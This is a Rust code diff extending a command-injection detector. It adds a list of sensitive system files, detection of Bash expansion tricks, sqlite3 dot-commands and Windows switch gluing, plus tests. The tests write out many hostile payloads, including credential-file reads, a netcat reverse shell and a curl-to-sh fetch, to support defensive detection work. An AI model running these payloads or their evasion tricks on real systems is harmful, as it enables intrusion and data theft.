@@ -246,6 +246,8 @@ const DISTINCT: &[&str] = &[
     "fold",
     "uconv",
     "lastlog",
+    // FreeBSD's lastlog.
+    "lastlogin",
     "visudo",
     "c89",
     "c99",
@@ -325,10 +327,28 @@ const DISTINCT: &[&str] = &[
     ".system",
 ];
 
-/// Commands that run the command after them (`time curl x`, `nohup sh -c`).
+/// Commands that run the command after them (`time curl x`, `nohup sh -c`); `eval` and `trap`
+/// run their argument (`trap 'rm -rf x' EXIT`), which normalising has unquoted.
 const PREFIX: &[&str] = &[
     "time", "nohup", "nice", "timeout", "sudo", "env", "xargs", "flock", "cpulimit", "watch", "strace",
-    "chroot", "exec", "command", "builtin",
+    "chroot", "exec", "command", "builtin", "eval", "trap",
+];
+
+/// Files whose name alone, as a command's argument after a separator, is an attack on the
+/// system: the ones `pathTraversal` names by path, read from their own directory
+/// (`cd /etc;column passwd`). None of them is an English word.
+const SECRET_FILES: &[&str] = &[
+    "passwd",
+    "master.passwd",
+    "gshadow",
+    "sudoers",
+    ".htpasswd",
+    "id_rsa",
+    "id_dsa",
+    "id_ecdsa",
+    "id_ed25519",
+    "authorized_keys",
+    ".bash_history",
 ];
 
 /// Short tool names that are not words: after `&`, or right before a separator, they are commands.
@@ -502,6 +522,20 @@ fn normalize(s: &str) -> String {
                 i += 3;
                 continue;
             }
+            b'$' => {
+                let glued = out.as_bytes().last().is_some_and(u8::is_ascii_alphanumeric);
+                match expansion_at(&t, i, glued) {
+                    Some((end, text)) => {
+                        out.push_str(text);
+                        i = end;
+                    }
+                    None => {
+                        out.push('$');
+                        i += 1;
+                    }
+                }
+                continue;
+            }
             _ => {
                 let len = match c {
                     0xc0..=0xdf => 2,
@@ -539,6 +573,83 @@ fn normalize(s: &str) -> String {
     result
 }
 
+/// The end of a shell variable's name starting at `k` (`[a-z_][a-z0-9_]*`, lower case), or
+/// `k` when there is none.
+fn name_end(b: &[u8], k: usize) -> usize {
+    if !b.get(k).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') {
+        return k;
+    }
+    let mut e = k + 1;
+    while e < b.len() && (b[e].is_ascii_alphanumeric() || b[e] == b'_') {
+        e += 1;
+    }
+    e
+}
+
+/// What Bash makes of the expansion at `t[i]` (a `$`) when it is one [`normalize`] undoes: its
+/// end and the text it stands for. `glued`: a letter or digit comes right before the `$`.
+///
+/// * `$((7))`, `$[7]`: arithmetic on a number is the number (`$((7))z` is `7z`).
+/// * `cat$u`, `/etc$u/`, `cat${u}`, `${u}cat`: a variable inside a word. Only an unset one
+///   splits a word in an attack, and it expands to nothing; a set one (`$HOME`) could not be
+///   known anyway, and dropping it only shortens the word.
+///
+/// A variable that is a word of its own stays: `cat $HOME/x` is a shell-shaped argument.
+fn expansion_at(t: &str, i: usize, glued: bool) -> Option<(usize, &str)> {
+    let b = t.as_bytes();
+    // At most 12 digits, and no more are read.
+    let digits_from = |k: usize| {
+        let limit = b.len().min(k + 13);
+        let e = (k..limit).find(|&e| !b[e].is_ascii_digit()).unwrap_or(limit);
+        (e > k && e - k <= 12).then_some(e)
+    };
+    match b.get(i + 1) {
+        Some(b'(') if b.get(i + 2) == Some(&b'(') => {
+            let e = digits_from(i + 3)?;
+            (t.get(e..e + 2) == Some("))")).then(|| (e + 2, &t[i + 3..e]))
+        }
+        Some(b'[') => {
+            let e = digits_from(i + 2)?;
+            (b.get(e) == Some(&b']')).then(|| (e + 1, &t[i + 2..e]))
+        }
+        Some(b'{') => {
+            let e = name_end(b, i + 2);
+            if e == i + 2 || b.get(e) != Some(&b'}') {
+                return None;
+            }
+            let right_glued = b.get(e + 1).is_some_and(u8::is_ascii_alphanumeric);
+            (glued || right_glued).then_some((e + 1, ""))
+        }
+        _ => {
+            let e = name_end(b, i + 1);
+            (glued && e > i + 1).then_some((e, ""))
+        }
+    }
+}
+
+/// `$SHELL`, `${BASH}` as the command word at `i` (after blanks, `(`, `{`): set in every login
+/// shell, to the shell. Its span and the shell.
+fn login_shell_at(b: &[u8], i: usize) -> Option<(usize, usize, &'static str)> {
+    let start = (i..b.len()).find(|&k| !matches!(b[k], b' ' | b'\t' | b'(' | b'{'))?;
+    let braced = b.get(start + 1) == Some(&b'{');
+    let name = start + 1 + usize::from(braced);
+    if b.get(start) != Some(&b'$') {
+        return None;
+    }
+    let e = name_end(b, name);
+    let end = if braced {
+        (b.get(e) == Some(&b'}')).then_some(e + 1)?
+    } else {
+        e
+    };
+    let shell = match &b[name..e] {
+        b"shell" => "sh",
+        b"bash" => "bash",
+        _ => return None,
+    };
+    Some((start, end, shell))
+}
+
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Sep {
     Start,
@@ -565,13 +676,18 @@ fn word_span(b: &[u8], i: usize) -> (usize, usize) {
     while j < b.len() && (b[j] == b' ' || b[j] == b'\t' || b[j] == b'(' || b[j] == b'{') {
         j += 1;
     }
-    // `;$u cat x`: an unset variable expands to nothing.
+    // `;$u cat x`, `;${u} cat x`: an unset variable expands to nothing.
     if b.get(j) == Some(&b'$') {
-        let mut k = j + 1;
+        let braced = b.get(j + 1) == Some(&b'{');
+        let name = j + 1 + usize::from(braced);
+        let mut k = name;
         while k < b.len() && (b[k].is_ascii_alphanumeric() || b[k] == b'_') {
             k += 1;
         }
-        if k > j + 1 && b.get(k) == Some(&b' ') {
+        if braced && k > name && b.get(k) == Some(&b'}') {
+            k += 1;
+        }
+        if k > name && (!braced || b[k - 1] == b'}') && b.get(k) == Some(&b' ') {
             j = k + 1;
         }
     }
@@ -634,9 +750,24 @@ fn command_at(s: &str, i: usize, sep: Sep, paranoia: u8) -> Option<&'static str>
 /// prefixes cannot recurse deeply.
 fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Option<&'static str> {
     let b = s.as_bytes();
-    let (start, j) = word_span(b, i);
-    let (dir, base) = split_word(s.get(start..j)?)?;
-    let cmd = command_of(base).or_else(|| command_of(strip_version(base)))?;
+    // `$SHELL -c x`: the variable that names the shell, as the command.
+    let (start, j, dir, cmd, switch) = if let Some((start, j, shell)) = login_shell_at(b, i) {
+        (start, j, "", shell, false)
+    } else {
+        let (start, j) = word_span(b, i);
+        if sep == Sep::Strong {
+            if let Some(r) = sqlite_dot_command(s, start) {
+                return Some(r);
+            }
+        }
+        let (dir, base) = split_word(s.get(start..j)?)?;
+        // `&bcdboot/r x`: cmd.exe ends a program's name where a switch starts.
+        match command_of(base).or_else(|| command_of(strip_version(base))) {
+            Some(cmd) => (start, j, dir, cmd, false),
+            None if sep != Sep::Start => (start, j, dir, windows_switch(dir, base)?, true),
+            None => return None,
+        }
+    };
     // `;$u cat x`: an unset variable put before the command to break up the pattern.
     if sep != Sep::Start && b[i.min(start)..start].contains(&b'$') && !s[j..].starts_with(['=', ':', ',']) {
         return Some("command after separator");
@@ -669,7 +800,10 @@ fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Opt
         && (next.is_some_and(|n| matches!(n, b'-' | b'/' | b'~' | b'$' | b'.' | b'\\' | b'%'))
             || arg.contains("://")
             || arg.starts_with("c:")))
-        || next.is_some_and(|n| n == b'>' || n == b'<');
+        || next.is_some_and(|n| n == b'>' || n == b'<')
+        || switch;
+    // `;column passwd`: a system file read from its own directory.
+    let secret_file = had_space && arg.rsplit('/').next().is_some_and(|f| SECRET_FILES.contains(&f));
     // A host or address argument: `ping 10.0.0.1`, `nslookup x.example.com`.
     let host_arg = (had_space && arg.split('.').count() >= 3 && arg.len() > 4)
         || (cmd == "net"
@@ -770,7 +904,15 @@ fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Opt
                 && line
                     .split_whitespace()
                     .any(|w| w.starts_with('!') || w.contains(":!"));
-            if shell_arg || host_arg || delay_arg || end_or_sep || !wordy || subexpression || editor_escape {
+            if shell_arg
+                || host_arg
+                || delay_arg
+                || end_or_sep
+                || !wordy
+                || subexpression
+                || editor_escape
+                || secret_file
+            {
                 Some("command after separator")
             } else {
                 None
@@ -789,6 +931,66 @@ fn command_at_depth(s: &str, i: usize, sep: Sep, paranoia: u8, depth: u8) -> Opt
             }
         }
     }
+}
+
+/// sqlite3's `.shell` and `.system`, which its shell also takes with blanks after the dot
+/// (`. shell id`) and abbreviated (`.sh id`, `.sys id`), followed by a command.
+fn sqlite_dot_command(s: &str, start: usize) -> Option<&'static str> {
+    let rest = s.get(start..)?.strip_prefix('.')?;
+    let after = rest.trim_start_matches([' ', '\t']);
+    let name_len = after.bytes().take(7).take_while(u8::is_ascii_alphabetic).count();
+    let name = &after[..name_len];
+    if name_len < 2 || !("shell".starts_with(name) || "system".starts_with(name)) {
+        return None;
+    }
+    if !after[name_len..].starts_with([' ', '\t']) {
+        return None;
+    }
+    let (ws, we) = word_span(s.as_bytes(), s.len() - after.len() + name_len);
+    let (_, base) = split_word(s.get(ws..we)?)?;
+    command_of(base).map(|_| "sqlite3 shell command")
+}
+
+/// Windows programs that take `/x` switches, which cmd.exe also reads glued to the name.
+const WINDOWS_SWITCHED: &[&str] = &[
+    "cmd",
+    "whoami",
+    "ipconfig",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "netstat",
+    "nslookup",
+    "tracert",
+    "certutil",
+    "bitsadmin",
+    "regsvr32",
+    "rundll32",
+    "wmic",
+    "cscript",
+    "wscript",
+    "schtasks",
+    "bcdboot",
+    "bcdedit",
+    "vssadmin",
+    "icacls",
+    "msiexec",
+    "forfiles",
+    "regedit",
+];
+
+/// `bcdboot/r`, `cmd/c`: cmd.exe ends a program's name where a switch starts. Only Windows
+/// programs, and switches of one or two letters or `?` (`openssl/3` is a product version,
+/// `base64/x` and `kubectl/apply` are paths).
+fn windows_switch(dir: &str, base: &str) -> Option<&'static str> {
+    let name = dir.strip_suffix('/')?;
+    let switch =
+        base == "?" || (matches!(base.len(), 1 | 2) && base.bytes().all(|c| c.is_ascii_alphabetic()));
+    if !switch {
+        return None;
+    }
+    let name = name.strip_suffix(".exe").unwrap_or(name);
+    WINDOWS_SWITCHED.iter().find(|c| **c == name).copied()
 }
 
 /// Looks for an OS command in one decoded value. `header` holds values written by clients (User-Agent
@@ -922,8 +1124,9 @@ fn detect_depth(value: &str, scan: Scan, paranoia: u8, header: bool, depth: u8) 
                 continue;
             }
         };
-        // A User-Agent's `; ` and `(...)` are not commands unless strongly shaped.
-        let sep = if header && sep == Sep::Strong && c == b';' {
+        // A User-Agent's `; ` and `(...)` are not commands unless strongly shaped. A value that
+        // starts with `;` is no product list.
+        let sep = if header && sep == Sep::Strong && c == b';' && !s[..i].trim().is_empty() {
             Sep::Amp
         } else {
             sep
@@ -965,6 +1168,13 @@ fn detect_depth(value: &str, scan: Scan, paranoia: u8, header: bool, depth: u8) 
     if paranoia >= 2 && s_needles.may(group::ARITHMETIC) && set.has(b'$') {
         if let Some(p) = find_str(&s, "$((") {
             return hit("shell arithmetic", p);
+        }
+        // Normalising made `7` of `$((7))`.
+        if let Some(p) = find_str(raw, "$((") {
+            return Some(Hit {
+                reason: "shell arithmetic",
+                excerpt: excerpt(raw, p, 96),
+            });
         }
     }
     None
@@ -1338,7 +1548,9 @@ fn brace_expansion(s: &str) -> Option<usize> {
             break;
         };
         let inner = &s[open + 1..close];
-        if !inner.contains(',') || inner.contains([' ', '\t', '{', '"', ':']) || inner.len() > 60 {
+        // `"` only in Bash's locale quoting `$"…"` (`{,$"whoami",}`), not in JSON-like text.
+        let quotes_ok = || !inner.contains('"') || inner.contains("$\"");
+        if inner.len() > 60 || !inner.contains(',') || inner.contains([' ', '\t', '{', ':']) || !quotes_ok() {
             continue;
         }
         let word_start = s[..open]
@@ -2002,6 +2214,163 @@ mod tests {
                 detect(ok, 1, true)
             );
         }
+    }
+
+    /// What Bash makes of a word before it runs it: a variable inside a word (unset in an
+    /// attack, so nothing), arithmetic on a number, `$SHELL` as the command.
+    #[test]
+    fn expansions_inside_words() {
+        shape_cases(
+            &[
+                ";cat$u /etc$u/passwd",
+                "x;cat${u} /etc/passwd",
+                "|${u}cat /etc/hosts",
+                ";${u} cat /etc/hosts",
+                "www.example.com;cat /etc/${a}passwd",
+                "$((7))z a -psecret x.7z",
+                "$[7]z x -so",
+                "$SHELL -c id",
+                "${SHELL} -c 'echo hi'",
+                ";$BASH -i",
+            ],
+            &[
+                "costs $5",
+                "US$u",
+                "It costs US$5, about 5$ each",
+                "In PHP, $name is a variable and $total$tax a sum",
+                "jQuery's $ and $el are objects",
+                "Dear ${name}, your order ${id} ships today",
+                "Hello ${user}!",
+                "/users/${id}/orders",
+                "price${currency}",
+                "The $SHELL variable names your login shell",
+                "${SHELL}",
+                "$HOME/bin and ${HOME}/lib are on the path",
+                "$((total)) items",
+            ],
+        );
+        // Arithmetic stays paranoia 2's shape after it is worked out.
+        assert!(detect("$((7))", 2, false).is_some());
+        // Headers: the Referer's fragment, a cookie written as a command line.
+        for attack in [
+            "https://www.example.com/?param=something#x=foo;cat$u+/etc$u/passwd",
+            "uname$u -a",
+        ] {
+            assert!(detect(attack, 1, true).is_some(), "missed {attack:?}");
+        }
+        for ok in [
+            "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
+            "price=US$u",
+            "theme=${name}",
+        ] {
+            assert!(
+                detect(ok, 1, true).is_none(),
+                "false positive on {ok:?}: {:?}",
+                detect(ok, 1, true)
+            );
+        }
+    }
+
+    #[test]
+    fn header_value_that_starts_with_a_separator() {
+        for attack in [";set", ";netstat -an", " ;id"] {
+            assert!(detect(attack, 1, true).is_some(), "missed {attack:?}");
+        }
+        for ok in ["gzip;q=1.0", "; q=0.5", "text/html; charset=utf-8", "foo; set=1"] {
+            assert!(
+                detect(ok, 1, true).is_none(),
+                "false positive on {ok:?}: {:?}",
+                detect(ok, 1, true)
+            );
+        }
+    }
+
+    #[test]
+    fn brace_expansion_with_locale_quoting() {
+        shape_cases(
+            &["{,$\"whoami\",}", "{$\"id\",}"],
+            &["{\"id\",\"name\"}", "{\"a\",\"\"}", "{,\"x\",}"],
+        );
+    }
+
+    #[test]
+    fn system_files_read_from_their_directory() {
+        shape_cases(
+            &[
+                "cd /;cd etc;column passwd",
+                "cd /etc;fold passwd",
+                "CD /;CD ETC;COMM PASSWD PASSWD",
+                ";cat .htpasswd",
+                "|head id_rsa",
+                "x\nless ../etc/passwd",
+            ],
+            &[
+                "reset password; more passwords",
+                "light; more shadow",
+                "forgot passwd",
+                "change your passwd; see help",
+                "keys; sort authorized",
+            ],
+        );
+    }
+
+    #[test]
+    fn commands_that_run_their_argument() {
+        shape_cases(
+            &[
+                ";trap 'rm -rf x' SIGEXIT",
+                ";trap \"curl http://x.example/y|sh\" EXIT",
+                "|eval 'cat /etc/passwd'",
+                ";lastlogin -u admin",
+                "|lastlogin",
+            ],
+            &[
+                "a trap; trap music",
+                "it's a trap",
+                "trap cat food",
+                "eval tips; eval results",
+                "Status: active; last login 2 days ago",
+            ],
+        );
+    }
+
+    #[test]
+    fn sqlite_dot_commands() {
+        shape_cases(
+            &[
+                "\";\\n. shell nc 10.0.0.1 6666 -e sh\\n",
+                "1;.sh whoami",
+                "x\n.sys id",
+                ";.shel curl http://x.example/",
+            ],
+            &[
+                "file types: .py; .sh files",
+                "scripts; .sh and .py",
+                "a;. shell game",
+                "end.\n. Shell out",
+            ],
+        );
+    }
+
+    #[test]
+    fn windows_switches_glued_to_the_name() {
+        shape_cases(
+            &[
+                "view=x&bcdboot/r file.txt",
+                "|cmd/c whoami",
+                "&ipconfig/?",
+                ";tasklist/v",
+            ],
+            &[
+                "a;kubectl/apply",
+                "x & kubectl/v",
+                "tools: cmd/ctrl",
+                "x;base64/x",
+                "R&D/QA",
+                "ipconfig/all",
+            ],
+        );
+        assert!(detect("Foo; OpenSSL/3", 1, true).is_none());
     }
 
     #[test]
